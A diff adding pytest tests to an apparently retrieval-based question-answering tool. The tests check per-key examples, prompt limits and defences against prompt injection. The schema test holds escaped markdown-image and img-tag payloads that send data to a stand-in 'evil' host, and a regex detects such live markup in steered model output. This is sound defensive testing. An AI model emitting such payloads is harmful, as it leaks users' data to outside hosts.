@@ -2,6 +2,7 @@
 
 import json
 import pathlib
+import re
 
 import pytest
 from scripted_model import scripted, says
@@ -191,6 +192,43 @@ def test_all_documents(project):
     assert answer["citations"][0]["document"] == "docs/leave.md"
 
 
+def test_examples_are_the_owners(project):
+    """They have no labels: a key's question is answered without them."""
+    project.write("examples.jsonl", json.dumps({"input": "How long may goods be returned?", "output": "The secret is 4711."}) + "\n")
+    project.run("key", "add", "clerk")
+    with scripted(says("Within 45 days of delivery [1].")) as server:
+        mine = project.ask("--model", server.model, "How long may goods be returned?")
+        theirs = project.ask("--as", "clerk", "--model", server.model, "How long may goods be returned?")
+        prompts = [json.dumps(request["body"]) for request in server.requests]
+    assert mine["prompt"]["examples"] == 1 and "4711" in prompts[0]
+    assert theirs["prompt"]["examples"] == 0 and "4711" not in prompts[1]
+
+
+def test_all_documents_or_none(project):
+    """Texts that fit, but not with what stands around them: nothing is left out unsaid."""
+    for number in range(30):
+        project.write(f"docs/{'long-name-' * 8}{number}.md", f"# Return {number}\n\nGoods go to shop {number}.\n")
+    project.add()
+    with scripted(says("Goods go to shop 3 [1].")) as server:
+        (project.folder / "assay.yaml").write_text("prompt: {tokens: 900}\n")
+        error = project.run("ask", "--json", "--model", server.model, "--approach", "full", "Where do goods go?", code=1).error("limit")
+        assert "does not fit into a prompt of 900 tokens" in error["message"] and not server.requests
+        (project.folder / "assay.yaml").write_text("prompt: {tokens: 9000}\n")
+        assert project.ask("--model", server.model, "--approach", "full", "Where do goods go?")["prompt"]["passages_cut"] == 0
+
+
+def test_turns_count(project):
+    """A conversation takes at most a quarter of the prompt, its last turns."""
+    turns = [{"question": f"How long may goods {number} be returned?", "answer": f"Turn {number}: " + "45 days of delivery " * 30} for number in range(5)]
+    project.write("talk.jsonl", "".join(json.dumps(turn) + "\n" for turn in turns))
+    (project.folder / "assay.yaml").write_text("prompt: {tokens: 1500}\n")
+    with scripted(says("How long may members return goods?"), says("Members may return goods within 60 days [1].")) as server:
+        answer = project.ask("--model", server.model, "--conversation", "talk.jsonl", "And members?")
+        sent = json.dumps(server.requests[1]["body"]["messages"])
+    assert "Turn 4" in sent and "Turn 2" not in sent
+    assert answer["prompt"]["tokens"] <= 1500 and answer["prompt"]["passages"] >= 1 and not answer["abstained"]
+
+
 def test_no_documents(project):
     with scripted(says("It is blue.")) as server:
         answer = project.ask("--model", server.model, "--approach", "prompt", "What colour is the sky?")
@@ -230,6 +268,15 @@ def test_an_answer_by_a_schema_is_repaired_once(project):
         assert "schema" in error["message"] and len(server.requests) == 2
 
 
+def test_texts_of_an_answer_by_a_schema_are_text(project):
+    """Escapes hide nothing, and what is no markup stays as it is."""
+    project.write("schema.json", json.dumps({"type": "object", "required": ["rule", "list"], "properties": {"list": {"type": "array", "items": {}}}}))
+    said = '{"rule": "!\\u005bx](http:\\/\\/evil\\/?q=S) stay", "list": ["a\\u003cimg src=//evil/?q=S>b", "[c", "](//evil/?q=S) d", 1.50, null, true, {"k <b>": "a < b, \\"c\\""}]}'
+    with scripted(says(said)) as server:
+        answer = project.ask("--model", server.model, "--schema", "schema.json", "How long may goods be returned?")["answer"]
+    assert answer == '{"rule":"x stay","list":["ab","[c"," d",1.50,null,true,{"k ":"a < b, \\"c\\""}]}'
+
+
 # ---- attacks ----
 
 ATTACKS = [json.loads(line) for path in sorted((ROOT / "tests/injection").glob("*.jsonl")) for line in path.read_text(encoding="utf-8").splitlines()]
@@ -260,6 +307,21 @@ def test_attacks_without_a_model(assay, tmp_path):
     won = [attack["text"] for attack, answer in zip(ATTACKS, answers, strict=True) if succeeded(attack, answer)]
     assert len(won) <= len(ATTACKS) * 0.02, won
     assert sum(not answer["abstained"] and "45" in answer["answer"] for answer in answers) >= len(answers) * 0.95
+
+
+SAID = json.loads((ROOT / "tests/injection/said.json").read_text(encoding="utf-8"))
+LIVE = re.compile(r"<[a-z/!?]|\]\(|\]:|!\[|https?://|www\.\S*[?#]|\[[0-9]+\]", re.IGNORECASE)
+
+
+@pytest.mark.parametrize("said", SAID, ids=range(len(SAID)))
+def test_what_a_steered_model_writes_is_text(project, said):
+    """Also what takes its shape only when something is taken out of it, or when sentences come together."""
+    with scripted(says(f"Otto is fine. {said} Bye.")) as server:
+        words = ("--model", server.model, "--unsupported", "keep", "How long may goods be returned?")
+        answer = project.ask(*words)["answer"]
+        shown = project.run("ask", *words).out
+    assert "fine" in answer and not LIVE.search(answer), answer
+    assert not LIVE.search(shown), shown
 
 
 def obeys(attacks):
